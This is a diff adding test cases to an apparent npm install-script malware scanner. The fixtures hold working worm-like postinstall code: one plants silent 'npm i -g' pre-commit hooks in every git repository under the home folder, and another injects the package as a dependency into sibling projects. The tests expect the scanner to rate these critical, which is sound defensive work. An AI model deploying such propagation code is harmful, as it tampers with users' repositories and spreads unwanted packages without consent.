@@ -2297,6 +2297,39 @@ module.constructor.prototype._compile.call(new module.constructor(), code, 'm.js
   });
 });
 
+describe('spreading: hooks in every repository found, projects made to depend on the package by its read-back name', () => {
+  const install = (code: string, name = 'fixture') =>
+    analyzeSource({
+      'package.json': JSON.stringify({ name, version: '1.0.0', scripts: { postinstall: 'node setup.js' } }),
+      'setup.js': code,
+    });
+  it('git hooks written into the repositories a find over the home folder lists', () => {
+    const r = install(`const { execSync } = require('child_process'); const fs = require('fs');
+const repos = execSync('find ~ -maxdepth 4 -name .git -type d 2>/dev/null').toString().trim().split('\\n');
+for (const g of repos) fs.writeFileSync(g + '/hooks/pre-commit', '#!/bin/sh\\nnpm i -g helper-lib >/dev/null 2>&1\\n', { mode: 0o755 });`);
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('install_script_injection');
+  });
+  it("sibling projects' package.json given a dependency on the name read from its own package.json", () => {
+    const r = install(`const fs = require('fs'); const path = require('path'); const os = require('os');
+const root = path.join(os.homedir(), 'code');
+for (const d of fs.readdirSync(root)) {
+  const pj = path.join(root, d, 'package.json');
+  if (!fs.existsSync(pj)) continue;
+  const j = JSON.parse(fs.readFileSync(pj, 'utf8'));
+  j.dependencies = Object.assign({}, j.dependencies, { [require('./package.json').name]: 'latest' });
+  fs.writeFileSync(pj, JSON.stringify(j, null, 2));
+}`);
+    expect(r.risk_level).toBe('critical');
+  });
+  it("a hook manager writing the project's own pre-commit hook stays quiet", () => {
+    const r = install(`const fs = require('fs'); const path = require('path');
+const hooks = path.join(process.env.INIT_CWD || process.cwd(), '.git', 'hooks');
+fs.writeFileSync(path.join(hooks, 'pre-commit'), '#!/bin/sh\\nnpx lint-staged\\n', { mode: 0o755 });`);
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
